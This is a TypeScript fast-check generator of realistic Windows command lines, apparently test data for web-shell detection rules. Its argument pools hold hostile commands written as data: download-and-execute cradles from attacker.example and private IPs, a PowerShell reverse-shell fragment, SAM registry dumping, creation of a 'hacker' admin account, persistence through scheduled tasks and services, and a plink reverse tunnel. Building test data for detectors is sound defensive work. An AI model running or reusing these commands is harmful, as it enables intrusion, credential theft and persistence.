import fc from 'fast-check';
import { extractFileName } from './paths.js';

/**
 * Realistic command lines per image: what web shells type (cmd /c whoami, powershell -enc ...), what
 * servers are started with (w3wp -ap "DefaultAppPool" ...), what their benign children get (csc.exe
 * /noconfig /fullpaths @"...cmdline"). Templates may hold tokens that only the process tree knows:
 * {pid}, {ppid}, {apppool} and {instance}; `fillCommandLine` resolves them.
 */

/** Values for the tokens a command-line template may hold. */
export interface CommandLineVariables {
  readonly pid: number;
  readonly parentPid: number;
  readonly appPool: string;
  readonly instance: string;
}

/** Resolves {pid}, {ppid}, {apppool} and {instance} in a command-line template. */
export function fillCommandLine(template: string, variables: CommandLineVariables): string {
  if (!template.includes('{')) return template;
  return template
    .replaceAll('{pid}', String(variables.pid))
    .replaceAll('{ppid}', String(variables.parentPid))
    .replaceAll('{apppool}', variables.appPool)
    .replaceAll('{instance}', variables.instance);
}

/**
 * Quotes one argument so CommandLineToArgvW reads it back unchanged: wrapped in quotes when it has
 * whitespace or quotes, with backslashes doubled before a quote and quotes escaped as \".
 */
export function quoteArgument(argument: string): string {
  if (argument !== '' && !/[\s"]/.test(argument)) return argument;
  let out = '"';
  let backslashes = 0;
  for (const char of argument) {
    if (char === '\\') {
      backslashes++;
      continue;
    }
    out += '\\'.repeat(char === '"' ? backslashes * 2 + 1 : backslashes) + char;
    backslashes = 0;
  }
  return `${out}${'\\'.repeat(backslashes * 2)}"`;
}

/**
 * Splits a command line into arguments as CommandLineToArgvW does (the rules the Microsoft C runtime
 * documents in "Parsing C command-line arguments"): argv[0] ends at the next quote or whitespace with no
 * escapes; after it, 2n backslashes before a quote give n and toggle quoting, 2n+1 give n and a literal
 * quote, and "" inside quotes is a literal quote.
 */
export function splitCommandLine(commandLine: string): string[] {
  const args: string[] = [];
  let i = 0;
  const length = commandLine.length;
  if (length === 0) return args;
  // argv[0]: a program name, never with escapes.
  let first = '';
  if (commandLine[0] === '"') {
    const end = commandLine.indexOf('"', 1);
    first = commandLine.slice(1, end === -1 ? length : end);
    i = end === -1 ? length : end + 1;
  } else {
    while (i < length && commandLine[i] !== ' ' && commandLine[i] !== '\t') first += commandLine[i++];
  }
  args.push(first);
  while (i < length) {
    while (i < length && (commandLine[i] === ' ' || commandLine[i] === '\t')) i++;
    if (i >= length) break;
    let arg = '';
    let quoted = false;
    while (i < length) {
      const char = commandLine[i];
      if (!quoted && (char === ' ' || char === '\t')) break;
      if (char === '\\') {
        let count = 0;
        while (commandLine[i] === '\\') {
          count++;
          i++;
        }
        if (commandLine[i] === '"') {
          arg += '\\'.repeat(Math.floor(count / 2));
          if (count % 2 === 1) {
            arg += '"';
            i++;
          }
        } else {
          arg += '\\'.repeat(count);
        }
        continue;
      }
      if (char === '"') {
        if (quoted && commandLine[i + 1] === '"') {
          arg += '"';
          i += 2;
          continue;
        }
        quoted = !quoted;
        i++;
        continue;
      }
      arg += char;
      i++;
    }
    args.push(arg);
  }
  return args;
}

/** How a command line writes the program it starts. */
export type Argv0Style =
  /** "C:\Program Files\PHP\v8.2\php-cgi.exe" */
  | 'quoted-path'
  /** C:\Windows\system32\cmd.exe (a path with spaces is quoted anyway) */
  | 'path'
  /** C:\Windows\system32\net1 */
  | 'path-no-extension'
  /** cmd.exe */
  | 'name'
  /** cmd */
  | 'bare-name'
  /** \??\C:\Windows\system32\conhost.exe, as conhost.exe is started */
  | 'nt-path';

/** Writes argv[0] for an image in a style; paths with spaces are always quoted. */
export function formatArgv0(image: string, style: Argv0Style): string {
  const name = extractFileName(image);
  const withoutExtension = (text: string) => text.replace(/\.exe$/i, '');
  const quoteIfSpaced = (text: string) => (/\s/.test(text) ? `"${text}"` : text);
  switch (style) {
    case 'quoted-path':
      return `"${image}"`;
    case 'path':
      return quoteIfSpaced(image);
    case 'path-no-extension':
      return quoteIfSpaced(withoutExtension(image));
    case 'name':
      return quoteIfSpaced(name);
    case 'bare-name':
      return quoteIfSpaced(withoutExtension(name));
    case 'nt-path':
      return quoteIfSpaced(/^[A-Za-z]:\\/.test(image) ? `\\??\\${image}` : image);
  }
}

/** Lower-case hexadecimal digits; shrinks to zeros. */
export function hexDigits(count: number): fc.Arbitrary<string> {
  return fc
    .array(fc.integer({ min: 0, max: 15 }), { minLength: count, maxLength: count })
    .map((digits) => digits.map((digit) => digit.toString(16)).join(''));
}

const lowerAlphanumeric = fc
  .array(fc.constantFrom(...'abcdefghijklmnopqrstuvwxyz0123456789'), { minLength: 8, maxLength: 8 })
  .map((chars) => chars.join(''));

const privateIp = fc
  .tuple(fc.constantFrom('10', '172.16', '192.168'), fc.integer({ min: 0, max: 255 }), fc.integer({ min: 1, max: 254 }))
  .map(([net, a, b]) => (net === '10' ? `10.0.${a}.${b}` : `${net}.${a}.${b}`));
const host = fc.oneof(
  { withCrossShrink: true },
  fc.constantFrom('dc01', 'dc01.contoso.local', 'google.com', '8.8.8.8', 'attacker.example', 'localhost'),
  privateIp,
);
const domainName = fc.constantFrom('contoso.local', 'CONTOSO', 'fabrikam.com');
const serviceName = fc.constantFrom('W3SVC', 'WinRM', 'Spooler', 'MSSQLSERVER', 'wuauserv', 'UpdateSvc', 'Apache2.4');
const url = fc
  .tuple(fc.constantFrom('http', 'https'), host, fc.constantFrom('a.exe', 'x.ps1', 'nc.exe', 'update.txt', 'p.b64'))
  .map(([scheme, server, file]) => `${scheme}://${server}/${file}`);
// Where dropped files land; some with spaces and ampersands, which stress quoting and XML escaping.
const droppedFile = fc.constantFrom(
  'C:\\Windows\\Temp\\a.exe',
  'C:\\Users\\Public\\svc.exe',
  'C:\\ProgramData\\x.dll',
  'C:\\inetpub\\wwwroot\\aspnet_client\\t.aspx',
  'C:\\Windows\\Temp\\R&D tools\\nc.exe',
  '%TEMP%\\p.ps1',
);
const webRoot = fc.constantFrom(
  'C:\\inetpub\\wwwroot\\',
  'C:\\xampp\\htdocs\\',
  'C:\\Apache24\\htdocs\\',
  'C:\\Program Files\\Apache Software Foundation\\Tomcat 9.0\\webapps\\ROOT\\',
);

// PowerShell -EncodedCommand takes base64 of the script's UTF-16LE bytes.
const ENCODED_SCRIPTS: readonly string[] = [
  'whoami',
  "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1')",
  'Get-Process | Select-Object -First 5',
  '$c = New-Object System.Net.Sockets.TCPClient("10.0.0.5",443)',
].map((script) => Buffer.from(script, 'utf16le').toString('base64'));

const powerShellScript = fc.constantFrom(
  'whoami',
  'Get-Process',
  "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1')",
  'Get-ChildItem C:\\inetpub\\wwwroot -Recurse',
  "Invoke-WebRequest -Uri 'http://attacker.example/nc.exe' -OutFile C:\\Users\\Public\\nc.exe",
  'Get-WmiObject Win32_OperatingSystem',
);

// What a web shell asks cmd.exe to run: discovery first, with the redirections, pipes and quotes that
// real commands carry (and that XML and JSON renderers must escape).
const shellCommand = fc.constantFrom(
  'whoami',
  'whoami /all',
  'ipconfig /all',
  'net user',
  'net localgroup administrators',
  'tasklist /svc',
  'systeminfo',
  'dir C:\\inetpub\\wwwroot',
  'type C:\\Windows\\win.ini',
  'echo %USERNAME%',
  'whoami > C:\\inetpub\\wwwroot\\1.txt',
  'ping -n 1 10.0.0.1 && echo ok',
  'netstat -ano | findstr "LISTENING"',
  'certutil -urlcache -split -f http://10.0.0.5/a.exe C:\\Users\\Public\\a.exe',
  'powershell -nop -c "Get-Process"',
  'echo ^<%@ Page Language="C#" %^> > C:\\inetpub\\wwwroot\\s.aspx',
  'query user',
  'cd',
);

const cmdArguments = fc.oneof(
  { withCrossShrink: true },
  fc.tuple(fc.constantFrom('/c', '/C', '/k', '/Q /c'), shellCommand).map(([flag, command]) => `${flag} ${command}`),
  // A web shell changing into the site folder first, as many do. China Chopper's own wrapping (with its
  // [S] and [E] markers) is what a rule keys on, so it is not a typical cmd.exe command line here: specs
  // that need it name it (a variant's arguments), and its rule's spec holds it apart.
  fc.tuple(webRoot, shellCommand).map(([dir, command]) => `/c "cd /d "${dir}"&${command}"`),
  // Apache 2.2 starts piped loggers ("|bin/rotatelogs.exe ...") through the shell: a benign cmd.exe child.
  fc.constant('/C "bin/rotatelogs.exe -l logs/access.%Y-%m-%d.log 86400"'),
  fc.constant(''),
);

const powerShellFlags = fc.constantFrom(
  '',
  '-nop ',
  '-NoProfile -NonInteractive ',
  '-ExecutionPolicy Bypass ',
  '-w hidden -nop ',
);
const powerShellArguments = fc.oneof(
  { withCrossShrink: true },
  fc
    .tuple(
      powerShellFlags,
      fc.constantFrom('-enc', '-EncodedCommand', '-e', '-ec'),
      fc.constantFrom(...ENCODED_SCRIPTS),
    )
    .map(([flags, option, encoded]) => `${flags}${option} ${encoded}`),
  fc.tuple(powerShellFlags, powerShellScript).map(([flags, script]) => `${flags}-c "${script}"`),
  fc.tuple(powerShellFlags, droppedFile).map(([flags, file]) => `${flags}-File ${quoteArgument(file)}`),
  fc.constant(''),
);

const posixShellArguments = fc.oneof(
  { withCrossShrink: true },
  fc
    .constantFrom('id', 'uname -a', 'whoami', 'cat /etc/passwd', 'ls -la', 'curl http://10.0.0.5/x.sh | sh')
    .map((command) => `-c "${command}"`),
  fc.constantFrom('--login -i', '-l', ''),
);

const scriptHostArguments = fc
  .tuple(
    fc.constantFrom('', '//nologo ', '//B //E:jscript ', '//E:vbscript //nologo '),
    fc.constantFrom('C:\\Windows\\Temp\\x.vbs', 'C:\\inetpub\\wwwroot\\upload\\a.js', 'C:\\Users\\Public\\run me.vbs'),
  )
  .map(([flags, script]) => `${flags}${quoteArgument(script)}`);

const netArguments = fc.oneof(
  { withCrossShrink: true },
  fc.constantFrom(
    'user',
    'user /domain',
    'localgroup administrators',
    'group "Domain Admins" /domain',
    'view',
    'share',
    'session',
    'start',
    'accounts',
    'time \\\\dc01',
    'use \\\\10.0.0.5\\C$',
    'user hacker P@ssw0rd! /add',
    'localgroup administrators hacker /add',
  ),
  serviceName.map((service) => `stop ${service}`),
);

const toolArguments: ReadonlyMap<string, fc.Arbitrary<string>> = new Map<string, fc.Arbitrary<string>>([
  ['cmd.exe', cmdArguments],
  ['powershell.exe', powerShellArguments],
  ['pwsh.exe', powerShellArguments],
  ['sh.exe', posixShellArguments],
  ['bash.exe', posixShellArguments],
  ['wscript.exe', scriptHostArguments],
  ['cscript.exe', scriptHostArguments],
  [
    'mshta.exe',
    fc.constantFrom(
      'vbscript:Execute("CreateObject(""WScript.Shell"").Run ""cmd /c whoami"", 0:close")',
      'http://10.0.0.5/a.hta',
      'C:\\Users\\Public\\a.hta',
    ),
  ],
  [
    'bitsadmin.exe',
    fc.oneof(
      { withCrossShrink: true },
      fc
        .tuple(fc.constantFrom('job', 'update', 'myjob'), url, droppedFile)
        .map(([job, source, target]) => `/transfer ${job} /download /priority high ${source} ${quoteArgument(target)}`),
      fc.constantFrom('/list /allusers', '/create update', '/reset'),
    ),
  ],
  ['net.exe', netArguments],
  ['net1.exe', netArguments],
  ['whoami.exe', fc.constantFrom('', '/all', '/priv', '/groups', '/user', '/fqdn')],
  [
    'ping.exe',
    fc
      .tuple(fc.constantFrom('-n 1 ', '-n 4 ', '', '-a ', '-w 1000 -n 1 '), host)
      .map(([flags, target]) => `${flags}${target}`),
  ],
  ['ipconfig.exe', fc.constantFrom('', '/all', '/displaydns', '/flushdns')],
  [
    'sc.exe',
    fc.oneof(
      { withCrossShrink: true },
      fc.constantFrom('query', 'query state= all', 'queryex type= service'),
      fc
        .tuple(fc.constantFrom('qc', 'start', 'stop', 'query'), serviceName)
        .map(([verb, service]) => `${verb} ${service}`),
      fc
        .tuple(serviceName, droppedFile)
        .map(([service, file]) => `create ${service} binPath= ${quoteArgument(file)} start= auto`),
    ),
  ],
  ['systeminfo.exe', fc.constantFrom('', '/fo csv', '/s dc01')],
  ['tasklist.exe', fc.constantFrom('', '/svc', '/v', '/fi "imagename eq lsass.exe"', '/m')],
  ['netstat.exe', fc.constantFrom('-ano', '-an', '-r', '-anob')],
  [
    'nltest.exe',
    fc.oneof(
      { withCrossShrink: true },
      domainName.map((domain) => `/dclist:${domain}`),
      domainName.map((domain) => `/dsgetdc:${domain}`),
      fc.constantFrom('/domain_trusts', '/domain_trusts /all_trusts'),
    ),
  ],
  [
    'certutil.exe',
    fc.oneof(
      { withCrossShrink: true },
      fc.tuple(url, droppedFile).map(([source, target]) => `-urlcache -split -f ${source} ${quoteArgument(target)}`),
      fc.constantFrom(
        '-decode C:\\Users\\Public\\p.b64 C:\\Users\\Public\\p.exe',
        '-hashfile C:\\Windows\\Temp\\a.exe SHA256',
      ),
    ),
  ],
  ['hostname.exe', fc.constant('')],
  [
    'nslookup.exe',
    fc.oneof(
      { withCrossShrink: true },
      host,
      domainName.map((domain) => `-type=SRV _ldap._tcp.dc._msdcs.${domain}`),
    ),
  ],
  [
    'quser.exe',
    fc.oneof(
      { withCrossShrink: true },
      fc.constant(''),
      host.map((server) => `/server:${server}`),
    ),
  ],
  ['arp.exe', fc.constant('-a')],
  ['route.exe', fc.constant('print')],
  [
    'reg.exe',
    fc.constantFrom(
      'query HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run',
      'save HKLM\\SAM C:\\Windows\\Temp\\sam.save',
      'query "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server" /v fDenyTSConnections',
    ),
  ],
  [
    'wmic.exe',
    fc.oneof(
      { withCrossShrink: true },
      fc.constantFrom('process list brief', 'os get caption,version', 'useraccount get name,sid', 'qfe list'),
      host.map((target) => `/node:${target} process call create "cmd /c whoami"`),
    ),
  ],
  [
    'schtasks.exe',
    fc.oneof(
      { withCrossShrink: true },
      fc.constant('/query /fo LIST /v'),
      droppedFile.map((file) => `/create /tn "Update" /tr ${quoteArgument(file)} /sc onstart /ru SYSTEM`),
    ),
  ],
  [
    'curl.exe',
    fc.oneof(
      { withCrossShrink: true },
      fc.tuple(droppedFile, url).map(([file, source]) => `-o ${quoteArgument(file)} ${source}`),
      url.map((source) => `-s ${source}`),
    ),
  ],
]);

// ASP.NET compiles into "Temporary ASP.NET Files" under the framework folder, in per-application and
// per-hash folders, and hands the compiler a response file (.cmdline) with the real options.
const aspNetTemporaryFolder = fc
  .tuple(fc.constantFrom('Framework64', 'Framework'), fc.constantFrom('root', 'webapp1'), hexDigits(8), hexDigits(8))
  .map(
    ([framework, app, a, b]) =>
      `C:\\Windows\\Microsoft.NET\\${framework}\\v4.0.30319\\Temporary ASP.NET Files\\${app}\\${a}\\${b}`,
  );
const compilerArguments = fc
  .tuple(aspNetTemporaryFolder, lowerAlphanumeric)
  .map(([folder, name]) => `/noconfig /fullpaths @"${folder}\\${name}.cmdline"`);

const benignArguments: ReadonlyMap<string, fc.Arbitrary<string>> = new Map<string, fc.Arbitrary<string>>([
  ['csc.exe', compilerArguments],
  ['vbc.exe', compilerArguments],
  [
    'cvtres.exe',
    fc
      .tuple(hexDigits(4), aspNetTemporaryFolder, hexDigits(32))
      .map(
        ([res, folder, csc]) =>
          `/NOLOGO /READONLY /MACHINE:IX86 "/OUT:C:\\Windows\\TEMP\\RES${res.toUpperCase()}.tmp" "${folder}\\CSC${csc.toUpperCase()}.TMP"`,
      ),
  ],
  ['vbcscompiler.exe', lowerAlphanumeric.map((pipe) => `"-pipename:${pipe}"`)],
  ['aspnet_compiler.exe', fc.constant('-v /WebApp1 -p "C:\\inetpub\\wwwroot\\WebApp1" -u -f "C:\\build\\precompiled"')],
  ['conhost.exe', fc.constant('0xffffffff -ForceV1')],
  // Windows Error Reporting is told the crashing process: the parent's pid.
  ['werfault.exe', fc.integer({ min: 100, max: 9999 }).map((section) => `-u -p {ppid} -s ${section}`)],
  ['rotatelogs.exe', fc.constantFrom('-l logs/access.%Y-%m-%d.log 86400', 'logs/error.%Y%m%d.log 5M')],
  ['sqldumper.exe', fc.constant('{ppid} 0 0x0120 0 0')],
]);

const TOMCAT_HOMES: readonly string[] = [
  'C:\\Program Files\\Apache Software Foundation\\Tomcat 9.0',
  'C:\\apache-tomcat-9.0.85',
  'C:\\Program Files\\Apache Software Foundation\\Tomcat 10.1',
];

const serverArguments: ReadonlyMap<string, fc.Arbitrary<string>> = new Map<string, fc.Arbitrary<string>>([
  [
    'w3wp.exe',
    fc
      .tuple(fc.constantFrom('v4.0', 'v2.0'), hexDigits(8), hexDigits(4), hexDigits(4), hexDigits(4), hexDigits(12))
      .map(
        ([clr, a, b, c, d, e]) =>
          `-ap "{apppool}" -v "${clr}" -l "webengine4.dll" -a \\\\.\\pipe\\iisipm${a}-${b}-${c}-${d}-${e} ` +
          '-h "C:\\inetpub\\temp\\apppools\\{apppool}\\{apppool}.config" -w "" -m 0 -t 20 -ta 0',
      ),
  ],
  ['httpd.exe', fc.constantFrom('-k runservice', '-d C:/Apache24', '', '-d C:/xampp/apache')],
  ['nginx.exe', fc.constantFrom('', '-p C:\\nginx\\', '-c conf\\nginx.conf')],
  ['php-cgi.exe', fc.constantFrom('', '-b 127.0.0.1:9000', '-b 127.0.0.1:9123 -c C:\\php\\php.ini')],
  [
    'java.exe',
    fc
      .constantFrom(...TOMCAT_HOMES)
      .map(
        (home) =>
          `-Djava.util.logging.config.file="${home}\\conf\\logging.properties" ` +
          '-Djava.util.logging.manager=org.apache.juli.ClassLoaderLogManager ' +
          `-classpath "${home}\\bin\\bootstrap.jar;${home}\\bin\\tomcat-juli.jar" ` +
          `-Dcatalina.base="${home}" -Dcatalina.home="${home}" -Djava.io.tmpdir="${home}\\temp" ` +
          'org.apache.catalina.startup.Bootstrap start',
      ),
  ],
  ['sqlservr.exe', fc.constant('-s{instance}')],
  [
    'iisexpress.exe',
    fc.constant(
      '/config:"C:\\Users\\dev\\Documents\\IISExpress\\config\\applicationhost.config" /site:"WebApp1" /apppool:"Clr4IntegratedAppPool"',
    ),
  ],
  ['apache.exe', fc.constant('-k runservice')],
  [
    'php.exe',
    fc.constantFrom(
      '-f C:\\inetpub\\wwwroot\\cron.php',
      'artisan schedule:run',
      '-S 0.0.0.0:8000 -t C:\\www',
      'composer.phar install --no-dev',
    ),
  ],
  [
    'node.exe',
    fc.constantFrom('server.js', 'C:\\inetpub\\wwwroot\\app\\index.js', 'node_modules\\next\\dist\\bin\\next start'),
  ],
  ['caddy.exe', fc.constant('run --config C:\\caddy\\Caddyfile')],
  [
    'svchost.exe',
    fc.constantFrom(
      '-k iissvcs',
      '-k netsvcs -p -s Schedule',
      '-k LocalServiceNetworkRestricted -p',
      '-k NetworkService -p -s Dnscache',
    ),
  ],
  [
    'rundll32.exe',
    fc.constantFrom(
      'C:\\Windows\\system32\\shell32.dll,Control_RunDLL',
      'ieframe.dll,OpenURL C:\\Users\\Public\\a.url',
      'printui.dll,PrintUIEntry /il',
    ),
  ],
  ['taskhostw.exe', fc.constantFrom('', '{222A245B-E637-4AE9-A93F-A59CA119A75E}')],
  ['notepad.exe', fc.constantFrom('', 'C:\\inetpub\\wwwroot\\web.config', '"C:\\Users\\Public\\read me.txt"')],
  ['mmc.exe', fc.constantFrom('C:\\Windows\\system32\\services.msc', '"C:\\Windows\\system32\\compmgmt.msc" /s')],
  ['msiexec.exe', fc.constantFrom('/V', '/i "C:\\Users\\Public\\setup.msi" /qn')],
  ['devenv.exe', fc.constant('"C:\\src\\WebApp1\\WebApp1.sln"')],
  // What administrators type into appcmd day to day (Microsoft's appcmd reference); module installs
  // are left to scenario variants, since they are what a rule may watch.
  ['appcmd.exe', fc.constantFrom('list sites', 'list apppool /state:Started', 'list modules', 'recycle apppool /apppool.name:"DefaultAppPool"',
    'set config "Default Web Site" /section:directoryBrowse /enabled:false', 'add site /name:"Intranet" /bindings:http/*:8080: /physicalPath:"C:\\inetpub\\intranet"',
    'stop site /site.name:"Default Web Site"')],
  ['robocopy.exe', fc.constantFrom('C:\\build\\WebApp1 C:\\inetpub\\wwwroot\\WebApp1 /MIR /R:2 /W:5', '\\\\fs01\\deploy\\site C:\\inetpub\\wwwroot /E /XO')],
  ['msdeploy.exe', fc.constant('-verb:sync -source:package="C:\\build\\WebApp1.zip" -dest:auto -setParam:"IIS Web Application Name"="Default Web Site/WebApp1"')],
  ['mstsc.exe', fc.constantFrom('', '/v:srv01.contoso.local', '/v:127.0.0.1:3389', '"C:\\Users\\Public\\Documents\\srv01.rdp"', '/admin /v:10.0.3.20')],
  ['systempropertiesremote.exe', fc.constant('')],
  ['plink.exe', fc.constantFrom('-ssh -R 8080:127.0.0.1:3389 -l tunnel -pw P@ss 203.0.113.45', '-batch -N -L 13389:127.0.0.1:3389 admin@bastion.contoso.local')],
  ['regedit.exe', fc.constantFrom('', '/s "C:\\Users\\Public\\settings.reg"')],
  ['wmiprvse.exe', fc.constantFrom('-secured -Embedding', '-Embedding')],
  ['rdpwinst.exe', fc.constantFrom('-i', '-i -o', '-w', '-u')],
]);

const ARGV0_STYLES: ReadonlyMap<string, readonly Argv0Style[]> = new Map<string, readonly Argv0Style[]>([
  // Windows starts conhost.exe by its NT path: \??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1.
  ['conhost.exe', ['nt-path']],
  ['w3wp.exe', ['path']],
  ['svchost.exe', ['path']],
  ['services.exe', ['path']],
  ['wininit.exe', ['name']],
  ['winlogon.exe', ['name']],
  ['smss.exe', ['path']],
  ['taskhostw.exe', ['name']],
  ['werfault.exe', ['path']],
  ['sqlservr.exe', ['quoted-path']],
  ['csc.exe', ['quoted-path']],
  ['vbc.exe', ['quoted-path']],
  ['cvtres.exe', ['path']],
  // net.exe hands its sub-command to net1 by path without the extension: "C:\Windows\system32\net1  user".
  ['net1.exe', ['path-no-extension', 'name']],
]);
const DEFAULT_ARGV0_STYLES: readonly Argv0Style[] = ['quoted-path', 'path', 'name', 'bare-name'];

function selectArguments(name: string): fc.Arbitrary<string> {
  const tomcat = /^tomcat(\d+)\.exe$/.exec(name);
  // The Tomcat service runner is told its service name: //RS//Tomcat9 (run service).
  if (tomcat !== null) return fc.constant(`//RS//Tomcat${tomcat[1] ?? ''}`);
  return toolArguments.get(name) ?? benignArguments.get(name) ?? serverArguments.get(name) ?? fc.constant('');
}

/** A command line before the image path is known: how argv[0] is written, and the argument string. */
export interface CommandLineParts {
  readonly style: Argv0Style;
  readonly args: string;
}

/** Joins argv[0], written in its style for `image`, and the arguments into one command line. */
export function composeCommandLine(image: string, parts: CommandLineParts): string {
  const argv0 = formatArgv0(image, parts.style);
  if (parts.args === '') return argv0;
  // net.exe leaves two spaces before the sub-command when it starts net1.
  return parts.style === 'path-no-extension' ? `${argv0}  ${parts.args}` : `${argv0} ${parts.args}`;
}

const partsCache = new Map<string, fc.Arbitrary<CommandLineParts>>();

/**
 * The argv[0] style and arguments typical for catalogue entry `name`; arguments may hold {pid}, {ppid},
 * {apppool} and {instance} tokens for `fillCommandLine`. Unknown names get no arguments.
 */
export function commandLineParts(name: string): fc.Arbitrary<CommandLineParts> {
  const key = name.toLowerCase();
  const cached = partsCache.get(key);
  if (cached !== undefined) return cached;
  const styles = ARGV0_STYLES.get(key) ?? DEFAULT_ARGV0_STYLES;
  const parts = fc.record({ style: fc.constantFrom(...styles), args: selectArguments(key) });
  partsCache.set(key, parts);
  return parts;
}

/**
 * A command-line template for a process of catalogue entry `name` started from `image`: argv[0] in a
 * style real launches use (quoted whenever the path has spaces), then arguments typical for the program.
 */
export function commandLine(name: string, image: string): fc.Arbitrary<string> {
  return commandLineParts(name).map((parts) => composeCommandLine(image, parts));
}
